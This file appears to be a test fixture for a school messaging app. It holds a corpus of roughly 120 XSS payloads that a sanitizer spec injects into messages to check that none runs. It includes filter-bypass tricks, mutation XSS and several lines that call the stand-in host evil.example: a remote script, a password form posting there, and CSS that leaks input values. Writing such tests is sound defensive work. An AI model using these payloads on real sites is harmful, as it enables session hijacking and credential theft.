/**
 * Hostile HTML that a school's message could carry (or an attacker could slip into one). Each
 * payload, if it ever ran, would set `window.__xss` (or open a dialog, or navigate): the XSS spec
 * places every one of them in communications, notice-board items, news and thread messages and
 * proves none of that happens and no live handler or dangerous URL is left in the page.
 */
const RUN = 'window.__xss=1';
const RUN_B64 = Buffer.from(`<script>parent.__xss=1</script>`).toString('base64');
const SVG_B64 = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss=1"/>`).toString('base64');

const scriptTags = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script>`,
  `<script type="module">${RUN}</script>`,
  `<script>/*</script><script>${RUN}//*/</script>`,
  `<<script>${RUN};//<</script>`,
  `<script\n>${RUN}</script\n>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<script>eval(String.fromCharCode(119,105,110,100,111,119,46,95,95,120,115,115,61,49))</script>`,
];

const eventHandlers = [
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="&#119;indow.__xss=1">`,
  `<img src=x:x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>`,
  `<body onload="${RUN}">`,
  `<div onmouseover="${RUN}" style="position:absolute;inset:0">passa qui</div>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<p onclick="${RUN}">clicca</p>`,
  `<a onmouseenter="${RUN}" href="#">link</a>`,
  `<button onclick="${RUN}">Conferma</button>`,
  `<img src=x onerror\n=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x oNeRrOr=${RUN}>`,
  `<div tabindex=1 onfocusin="${RUN}" autofocus>x</div>`,
  `<img src=x onerror="${RUN}"//`,
  `<image src=x onerror=${RUN}>`,
  `<table background="javascript:${RUN}"><tr><td>x</td></tr></table>`,
  `<body onpageshow="${RUN}">`,
  `<object data=x onerror="${RUN}"></object>`,
  `<img src=x onanimationstart="${RUN}" style="animation:spin 1s">`,
  `<div onpointerover="${RUN}">x</div>`,
];

const javascriptUrls = [
  `<a href="javascript:${RUN}">clicca qui</a>`,
  `<a href="JaVaScRiPt:${RUN}">clicca</a>`,
  `<a href=" javascript:${RUN}">spazio</a>`,
  `<a href="jav&#x09;ascript:${RUN}">tab</a>`,
  `<a href="jav&#x0A;ascript:${RUN}">a capo</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">entità</a>`,
  `<a href="javascript&colon;${RUN}">colon</a>`,
  `<a href="\x01javascript:${RUN}">controllo</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<form action="javascript:${RUN}"><button>invia</button></form>`,
  `<button formaction="javascript:${RUN}">invia</button>`,
  `<area href="javascript:${RUN}">`,
  `<a xlink:href="javascript:${RUN}">x</a>`,
  `<base href="javascript:${RUN}//">`,
  `<img src="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:void(0)" onclick="${RUN}">doppio</a>`,
];

const dataUrls = [
  `<a href="data:text/html;base64,${RUN_B64}">dati</a>`,
  `<a href="data:text/html,<script>parent.__xss=1</script>">dati</a>`,
  `<iframe src="data:text/html;base64,${RUN_B64}"></iframe>`,
  `<object data="data:text/html;base64,${RUN_B64}"></object>`,
  `<embed src="data:image/svg+xml;base64,${SVG_B64}">`,
  `<img src="data:image/svg+xml;base64,${SVG_B64}">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=">`,
  `<a href=" DATA:text/html,<script>parent.__xss=1</script>">maiuscolo</a>`,
  `<script src="data:,${RUN}"></script>`,
  `<link rel="stylesheet" href="data:text/css,body{display:none}">`,
  `<video poster="data:image/svg+xml;base64,${SVG_B64}"></video>`,
];

const svg = [
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><set attributeName="onload" to="${RUN}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${SVG_B64}#x"/></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><image href="x" onerror="${RUN}"/></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
];

const frames = [
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe onload="${RUN}"></iframe>`,
  `<frameset onload="${RUN}"><frame src="x"></frameset>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<portal src="https://evil.example"></portal>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<a href="https://evil.example" target="_top">apri</a>`,
];

const forms = [
  `<form action="https://evil.example/login" method="post"><label>Password <input type="password" name="p"></label><button>Accedi</button></form>`,
  `<form id="f"></form><button form="f" formaction="https://evil.example">invia</button>`,
  `<input type="image" src=x onerror="${RUN}">`,
  `<form><input name="attributes"><input name="nodeName"></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<img name="getElementById"><img id="__xss" name="__xss">`,
  `<a id="__xss" href="x:1">clobber</a>`,
];

const cssTricks = [
  `<style>body{display:none}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">Sessione scaduta: <a href="https://evil.example">accedi di nuovo</a></div>`,
  `<div style="background-image:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`,
  `<p style="color:red;background:url('https://evil.example/track.png')">traccia</p>`,
];

const mutationXss = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<textarea><img src=x onerror=${RUN}></textarea>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<a href="&#x6A;avascript:${RUN}">mx</a>`,
  `<svg><p><style><img src=x onerror=${RUN}></style></p></svg>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<table><tr><td><svg><desc><img src=x onerror=${RUN}></desc></svg></td></tr></table>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
];

export const XSS_CORPUS: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...javascriptUrls,
  ...dataUrls,
  ...svg,
  ...frames,
  ...forms,
  ...cssTricks,
  ...mutationXss,
];
